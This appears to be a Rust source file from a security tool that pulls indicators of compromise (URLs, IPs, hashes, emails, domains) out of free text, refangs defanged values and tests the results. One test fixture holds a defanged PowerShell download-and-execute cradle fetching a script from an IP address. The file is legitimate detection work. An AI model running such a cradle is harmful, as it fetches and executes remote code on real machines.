//! Pass 4: indicators written in free text — a description, a reason, a command line. The text is
//! refanged (`hxxp`, `[.]`, `(.)`, `[@]`, `[dot]`, …) and scanned for URLs, email addresses,
//! hashes, IP addresses and domains, precision first: a domain needs a real public suffix (the
//! Public Suffix List, through `psl`), program and file names (`powershell.exe`, `Net.WebClient`,
//! `invoice.pdf`) are not domains, hashes need word boundaries and both letters and digits, an
//! address in a version string (`v1.2.3.4`) is not an address, and what lies inside a URL or an
//! email address is not found again on its own.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use regex::Regex;

use crate::indicators::{IndicatorType, has_public_suffix};

/// The most of one field that is scanned (a huge `_raw` costs no more than this).
pub const MAX_SCANNED_BYTES: usize = 64 * 1024;
/// The most indicators one field yields.
pub const MAX_FOUND: usize = 200;

/// Top-level domains that are also common file extensions: a name ending in one is read as a
/// file (`payload.zip`, `run.sh`, `notes.md`) unless the text defanged it (`evil[.]zip`).
const FILE_LIKE_SUFFIXES: &[&str] = &[
    // Archives, scripts, sources, build and config files, documents.
    "zip",
    "mov",
    "sh",
    "py",
    "pl",
    "rs",
    "md",
    "so",
    "ps",
    "cc",
    "app",
    "pm",
    "cs",
    "ai",
    "mp",
    "am",
    "tf",
    "mk",
    "mo",
    "cf",
    "ac",
    "pub",
    "cat",
    "ws",
    "one",
    "pf",
    "run",
    "properties",
    "target",
    "java",
    // Field names written as dotted paths (`process.name`, `user.email`, `event.id`).
    "name",
    "id",
    "email",
];

/// What defanging looks like; where none occurs, no candidate was defanged.
const DEFANG_MARKERS: &[&str] =
    &["[.]", "(.)", "{.}", "[dot]", "(dot)", "[@]", "(@)", "[at]", "[:]", "hxxp", "fxp"];

static URL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b[a-z][a-z0-9+.-]{1,15}://(?:\[[0-9a-f:.]+\])?[^\s<>"'`{}|\\^\[\]]*"#).ok()
});
static EMAIL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b[a-z0-9][a-z0-9._%+-]{0,63}@(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]\b").ok()
});
static HASH: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\b[0-9a-fA-F]{32,64}\b").ok());
static IPV4: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").ok());
static IPV6: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}").ok());
static DEFANGED_DOT_AT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\s?[\[\(\{]\s*(dot|\.|at|@)\s*[\]\)\}]\s?").ok());
static SCHEME: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)\b(hxxps?|fxp)://").ok());
static DOMAIN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]\b").ok()
});

/// The patterns are constants (a test compiles each); one that failed to compile would find nothing.
#[cfg(test)]
fn patterns() -> [&'static LazyLock<Option<Regex>>; 8] {
    [&URL, &EMAIL, &HASH, &IPV4, &IPV6, &DOMAIN, &SCHEME, &DEFANGED_DOT_AT]
}

/// Undoes defanging anywhere in a text (not only at the start of a value).
pub fn refang_text(text: &str) -> String {
    // Any case, with spaces inside or around: `[DOT]`, `( at )`, `evil [dot] com` (before the
    // exact spellings, which would leave the spaces behind).
    let out = match DEFANGED_DOT_AT.as_ref() {
        Some(marks) => marks
            .replace_all(text, |caps: &regex::Captures<'_>| {
                let word = caps.get(1).map(|m| m.as_str().to_ascii_lowercase()).unwrap_or_default();
                if word == "at" || word == "@" { "@" } else { "." }
            })
            .into_owned(),
        None => text.to_string(),
    };
    let out = crate::indicators::refang_marks(&out);
    // `hxxp://`, `hXXps://`, `fxp://` in any case: the scheme alone is rewritten.
    let Some(scheme) = SCHEME.as_ref() else { return out };
    scheme
        .replace_all(&out, |caps: &regex::Captures<'_>| {
            let scheme = caps.get(1).map(|m| m.as_str().to_ascii_lowercase()).unwrap_or_default();
            match scheme.as_str() {
                "hxxps" => "https://",
                "fxp" => "ftp://",
                _ => "http://",
            }
        })
        .into_owned()
}

/// One indicator found in a text, in the order of the text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// Its type.
    pub kind: IndicatorType,
    /// The value as written (refanged; normalized later like every other value).
    pub value: String,
}

struct Scan<'a> {
    /// The refanged text, with what was already found blanked out.
    work: Vec<u8>,
    text: &'a str,
    defanged: bool,
    /// The original text, lower-cased once.
    original_lower: String,
    found: Vec<(usize, Found)>,
}

impl Scan<'_> {
    fn current(&self) -> String {
        String::from_utf8_lossy(&self.work).into_owned()
    }

    fn take(&mut self, start: usize, end: usize, kind: IndicatorType, value: &str) {
        if let Some(span) = self.work.get_mut(start..end) {
            span.fill(b' ');
        }
        self.found.push((start, Found { kind, value: value.to_string() }));
    }

    fn before(&self, start: usize) -> Option<char> {
        self.text.get(..start).and_then(|t| t.chars().next_back())
    }

    fn after(&self, end: usize) -> Option<char> {
        self.text.get(end..).and_then(|t| t.chars().next())
    }

    /// Whether a candidate only exists because the text was refanged (`evil[.]zip`).
    fn was_defanged(&self, candidate: &str) -> bool {
        self.defanged && !self.original_lower.contains(&candidate.to_ascii_lowercase())
    }
}

/// Trims what ends a sentence rather than a URL: `.`, `,`, `;`, `:`, `!`, `?`, quotes, and a
/// closing bracket that has no opening one in the URL.
fn trim_url(url: &str) -> &str {
    // Bracket counts are taken once and kept up to date as characters come off the end.
    let (open_round, mut close_round) = (url.matches('(').count(), url.matches(')').count());
    let (open_square, mut close_square) = (url.matches('[').count(), url.matches(']').count());
    let mut url = url;
    while let Some(last) = url.chars().next_back() {
        let unbalanced = match last {
            ')' => open_round < close_round,
            ']' => open_square < close_square,
            '}' | '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '"' | '>' | '*' | '_' | '~' | '`' => true,
            _ => false,
        };
        if !unbalanced {
            break;
        }
        match last {
            ')' => close_round -= 1,
            ']' => close_square -= 1,
            _ => {}
        }
        url = &url[..url.len() - last.len_utf8()];
    }
    url
}

/// A URL ends at a `)` that closes nothing inside it: `(iwr http://x/a).Content` is code around
/// the URL `http://x/a`.
fn cut_at_unbalanced_paren(url: &str) -> &str {
    let mut depth = 0usize;
    for (i, c) in url.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return &url[..i],
            ')' => depth -= 1,
            _ => {}
        }
    }
    url
}

/// Finds the indicators written in `text`.
pub fn scan(text: &str) -> Vec<Found> {
    let mut end = text.len().min(MAX_SCANNED_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let original = &text[..end];
    let lowered = original.to_ascii_lowercase();
    let defanged = DEFANG_MARKERS.iter().any(|m| lowered.contains(m))
        || DEFANGED_DOT_AT.as_ref().is_some_and(|r| r.is_match(original));
    let refanged = refang_text(original);
    let mut scan = Scan {
        work: refanged.clone().into_bytes(),
        text: &refanged,
        defanged,
        original_lower: lowered,
        found: Vec::new(),
    };
    scan_urls(&mut scan);
    scan_emails(&mut scan);
    scan_hashes(&mut scan);
    scan_ips(&mut scan);
    scan_domains(&mut scan);
    let mut found = scan.found;
    found.sort_by_key(|(at, _)| *at);
    found.into_iter().map(|(_, f)| f).take(MAX_FOUND).collect()
}

fn scan_urls(scan: &mut Scan<'_>) {
    let work = scan.current();
    let Some(pattern) = URL.as_ref() else { return };
    for m in pattern.find_iter(&work) {
        let url = trim_url(cut_at_unbalanced_paren(m.as_str()));
        let host = url.split_once("://").map(|(_, rest)| rest).unwrap_or_default();
        // A host starts with a letter, a digit or `[`: `https://$d/gate.php` is a script's
        // template, not a URL.
        if !host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '[') {
            continue;
        }
        scan.take(m.start(), m.start() + url.len(), IndicatorType::Url, url);
    }
}

fn scan_emails(scan: &mut Scan<'_>) {
    let work = scan.current();
    let Some(pattern) = EMAIL.as_ref() else { return };
    for m in pattern.find_iter(&work) {
        let domain = m.as_str().rsplit_once('@').map(|(_, d)| d).unwrap_or_default();
        if has_public_suffix(domain) {
            scan.take(m.start(), m.end(), IndicatorType::Email, m.as_str());
        }
    }
}

fn scan_hashes(scan: &mut Scan<'_>) {
    let work = scan.current();
    let Some(pattern) = HASH.as_ref() else { return };
    for m in pattern.find_iter(&work) {
        let kind = match m.as_str().len() {
            32 => IndicatorType::HashMd5,
            40 => IndicatorType::HashSha1,
            64 => IndicatorType::HashSha256,
            _ => continue,
        };
        // A run of digits alone, or of letters alone, is rarely a hash (ids, padding, words).
        let letters = m.as_str().bytes().any(|b| b.is_ascii_alphabetic());
        let digits = m.as_str().bytes().any(|b| b.is_ascii_digit());
        // `\b` does not see `_` and `-` as edges of a word; a hash is not part of a longer name.
        let glued = |c: Option<char>| c.is_some_and(|c| c == '_' || c == '-');
        if letters && digits && !glued(scan.before(m.start())) && !glued(scan.after(m.end())) {
            scan.take(m.start(), m.end(), kind, m.as_str());
        }
    }
}

/// Whether the text just before `start` names a version (`version 1.2.3.4`, `Version=3.0.0.0`,
/// `FileVersion: 1.0.0.1`, `"version": "1.2.3.4"`, `build 10.0.0.1`) or a product in a user agent
/// (`Chrome/120.0.0.0`). Only the last few characters are looked at.
fn version_before(scan: &Scan<'_>, start: usize) -> bool {
    let mut from = start.saturating_sub(32);
    while !scan.text.is_char_boundary(from) {
        from -= 1;
    }
    let head = scan.text.get(from..start).unwrap_or_default();
    // A product's version in a user agent (`Chrome/120.0.0.0`): a name with lower-case letters
    // before the slash. Squid's `HIER_DIRECT/185.244.25.10` names a peer's address.
    if let Some(before_slash) = head.strip_suffix('/') {
        let word: String =
            before_slash.chars().rev().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
        return word.chars().any(|c| c.is_ascii_lowercase());
    }
    let head = head.trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | ':' | '"' | '\''));
    let lower = head.to_ascii_lowercase();
    ["version", "ver", "build", "v"].iter().any(|word| {
        lower.ends_with(word)
            && (lower.ends_with("fileversion")
                || lower.ends_with("productversion")
                || lower[..lower.len() - word.len()].chars().next_back().is_none_or(|c| !c.is_alphanumeric()))
    })
}

fn scan_ips(scan: &mut Scan<'_>) {
    let work = scan.current();
    let (Some(ipv4), Some(ipv6)) = (IPV4.as_ref(), IPV6.as_ref()) else { return };
    for m in ipv4.find_iter(&work) {
        let before = scan.before(m.start());
        let after_text = scan.text.get(m.end()..).unwrap_or_default();
        // Part of a longer dotted number (`1.2.3.4.5`, `10.0.19041.1`) or a version (`v1.2.3.4`).
        let longer = before.is_some_and(|c| c == '.' || c.is_alphanumeric() || c == '_')
            || (after_text.starts_with('.') && after_text[1..].starts_with(|c: char| c.is_ascii_digit()));
        if longer || version_before(scan, m.start()) || m.as_str().parse::<Ipv4Addr>().is_err() {
            continue;
        }
        scan.take(m.start(), m.end(), IndicatorType::Ip, m.as_str());
    }
    let work = scan.current();
    for m in ipv6.find_iter(&work) {
        let candidate = m.as_str().trim_end_matches(':');
        let glued = scan.before(m.start()).is_some_and(|c| c.is_alphanumeric() || c == ':')
            || scan
                .after(m.start() + candidate.len())
                .is_some_and(|c| c.is_alphanumeric() || c == ':' || c == '(');
        // Two groups at least: `::add(` in PowerShell is no address.
        let groups = candidate.split(':').filter(|g| !g.is_empty()).count();
        if glued || groups < 2 || candidate.matches(':').count() < 2 || candidate.parse::<Ipv6Addr>().is_err()
        {
            continue;
        }
        // `::` alone, or times and MACs that happen to parse, are not worth an indicator.
        if !candidate.contains("::") && candidate.matches(':').count() < 7 {
            continue;
        }
        if candidate == "::" || candidate == "::1" {
            continue;
        }
        scan.take(m.start(), m.start() + candidate.len(), IndicatorType::Ip, candidate);
    }
}

fn scan_domains(scan: &mut Scan<'_>) {
    let work = scan.current();
    let Some(pattern) = DOMAIN.as_ref() else { return };
    for m in pattern.find_iter(&work) {
        let candidate = m.as_str();
        let before = scan.before(m.start());
        let after = scan.after(m.end());
        // Part of a longer name, a path (`C:\Tools\run.exe`, `./build.sh`), or a member access
        // followed by a call (`Net.WebClient).DownloadString(`).
        // A UNC path's server (`\\\\files.evil.com\\share`) is a host all the same.
        let unc = scan.text.get(..m.start()).is_some_and(|t| t.ends_with("\\\\"));
        if (!unc && before.is_some_and(|c| matches!(c, '.' | '@' | '_' | '-' | '\\' | '/' | '$' | '%')))
            || after.is_some_and(|c| matches!(c, '_' | '-' | '(' | '@' | '$'))
            || (!unc && after == Some('\\'))
        {
            continue;
        }
        if !has_public_suffix(candidate) {
            continue;
        }
        let defanged = scan.was_defanged(candidate);
        let last = candidate.rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
        if FILE_LIKE_SUFFIXES.contains(&last.as_str()) && !defanged {
            continue;
        }
        // Code, not a host name: `System.Net`, `Console.Run` — a capitalised, mixed-case last label
        // (host names are not written `.Net`; `PayPal-Verify.com` is fine), unless defanged.
        let code_like = candidate.rsplit('.').next().is_some_and(|label| {
            label.chars().next().is_some_and(char::is_uppercase) && label.chars().any(char::is_lowercase)
        });
        if code_like && !defanged {
            continue;
        }
        scan.take(m.start(), m.end(), IndicatorType::Domain, candidate);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use IndicatorType::*;

    fn found(text: &str) -> Vec<(IndicatorType, String)> {
        scan(text).into_iter().map(|f| (f.kind, f.value)).collect()
    }

    fn pairs(items: &[(IndicatorType, &str)]) -> Vec<(IndicatorType, String)> {
        items.iter().map(|(k, v)| (*k, v.to_string())).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        assert!(patterns().iter().all(|p| p.is_some()));
    }

    #[test]
    fn a_defanged_powershell_download_yields_the_url_only() {
        let text = r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('hxxp://185.244.25[.]10/a.ps1')""#;
        assert_eq!(found(text), pairs(&[(Url, "http://185.244.25.10/a.ps1")]));
    }

    #[test]
    fn program_and_file_names_are_not_domains() {
        let text = "WINWORD.EXE spawned powershell.exe which wrote invoice.pdf and payload.zip; see System.Net and \
                    Microsoft.PowerShell.Commands; C:\\Users\\bob\\AppData\\evil.com.exe ran ./build.sh";
        assert_eq!(found(text), Vec::new(), "{:?}", found(text));
    }

    #[test]
    fn domains_need_a_public_suffix_and_defanging_wins_over_file_likeness() {
        assert_eq!(
            found("beacon to update-check.example.com every 60s"),
            pairs(&[(Domain, "update-check.example.com")])
        );
        assert_eq!(found("lookup of corp.internal and host.local failed"), Vec::new());
        assert_eq!(
            found("C2 at evil[.]zip and bad(.)co.uk"),
            pairs(&[(Domain, "evil.zip"), (Domain, "bad.co.uk")])
        );
    }

    #[test]
    fn versions_and_longer_numbers_are_not_addresses() {
        assert_eq!(found("agent v1.2.3.4 on build 10.0.19041.1 and version 2.0.0.1"), Vec::new());
        assert_eq!(found("from 10.0.0.5, then 999.1.1.1."), pairs(&[(Ip, "10.0.0.5")]));
        assert_eq!(found("ipv6 2001:db8::7 at 12:30:45"), pairs(&[(Ip, "2001:db8::7")]));
    }

    #[test]
    fn hashes_need_boundaries_the_right_length_and_both_letters_and_digits() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert_eq!(
            found(&format!("md5 {md5}, sha256={sha256}.")),
            pairs(&[(HashMd5, md5), (HashSha256, sha256)])
        );
        // Inside a longer hex run, glued to a name, or all digits: not a hash.
        assert_eq!(found(&format!("{md5}abcdef x_{md5} 12345678901234567890123456789012")), Vec::new());
    }

    #[test]
    fn urls_end_where_the_sentence_does_and_what_is_inside_is_not_found_again() {
        assert_eq!(
            found(
                "Visit https://evil.example.com/login?x=1. Or (http://10.1.2.3/a)! mail bob@evil.example.org."
            ),
            pairs(&[
                (Url, "https://evil.example.com/login?x=1"),
                (Url, "http://10.1.2.3/a"),
                (Email, "bob@evil.example.org")
            ])
        );
        assert_eq!(found("hXXps://Bad[.]Example[.]com/x"), pairs(&[(Url, "https://Bad.Example.com/x")]));
        assert_eq!(
            found("reply to alice[@]phish[.]example[.]net"),
            pairs(&[(Email, "alice@phish.example.net")])
        );
    }

    #[test]
    fn a_field_is_scanned_up_to_its_bounds() {
        let many: String = (0..300).map(|i| format!("10.0.{}.{} ", i / 250, i % 250)).collect();
        assert_eq!(scan(&many).len(), MAX_FOUND);
        let late = format!("{}198.51.100.1 ", "x ".repeat(MAX_SCANNED_BYTES / 2));
        assert!(scan(&late).is_empty(), "past the scanned bytes");
        let early = format!("198.51.100.1 {}", "é".repeat(MAX_SCANNED_BYTES));
        assert_eq!(found(&early), pairs(&[(Ip, "198.51.100.1")]));
    }

    /// Recall and precision over the labelled corpus in `testdata/freetext_corpus.json` (printed:
    /// `cargo test -p calseta-core freetext::tests::corpus -- --nocapture`).
    #[test]
    fn corpus_recall_and_precision() {
        let corpus: Vec<serde_json::Value> =
            serde_json::from_str(include_str!("../testdata/freetext_corpus.json")).unwrap();
        let (mut true_positives, mut false_positives, mut false_negatives) = (0usize, 0usize, 0usize);
        // The texts of a class (a wrapped format) are the decoders' corpus (`decoders::tests`).
        for case in corpus.iter().filter(|c| c.get("class").is_none()) {
            let text = case["text"].as_str().unwrap();
            let expected: Vec<(String, String)> = case["expect"]
                .as_array()
                .unwrap()
                .iter()
                .map(|p| (p[0].as_str().unwrap().to_string(), p[1].as_str().unwrap().to_string()))
                .collect();
            let got: Vec<(String, String)> =
                scan(text).into_iter().map(|f| (f.kind.as_str().to_string(), f.value)).collect();
            for item in &got {
                if expected.contains(item) {
                    true_positives += 1;
                } else {
                    false_positives += 1;
                    println!("false positive {item:?} in {text}");
                }
            }
            for item in expected.iter().filter(|e| !got.contains(e)) {
                false_negatives += 1;
                println!("missed {item:?} in {text}");
            }
        }
        let recall = true_positives as f64 / (true_positives + false_negatives) as f64;
        let precision = true_positives as f64 / (true_positives + false_positives) as f64;
        println!(
            "free-text corpus: {} texts, {true_positives} found, {false_positives} false positives, \
             {false_negatives} missed: recall {recall:.3}, precision {precision:.3}",
            corpus.len()
        );
        assert!(precision >= 0.95 && recall >= 0.9, "recall {recall:.3}, precision {precision:.3}");
    }

    proptest::proptest! {
        #[test]
        fn scanning_never_panics(text in "\\PC{0,300}") {
            let _ = scan(&text);
        }

        #[test]
        fn scanning_mixed_pieces_never_panics(parts in proptest::collection::vec(proptest::sample::select(vec![
            "hxxp://", "[.]", "(.)", "1.2.3.4", "::", "é", "👍", "evil", ".com", "@", "a.b", "\\", "/", "(", ")",
            "d41d8cd98f00b204e9800998ecf8427e", "v", " ", ".", "[@]", "2001:db8::1", "x.zip",
        ]), 0..40)) {
            let _ = scan(&parts.concat());
        }
    }
}
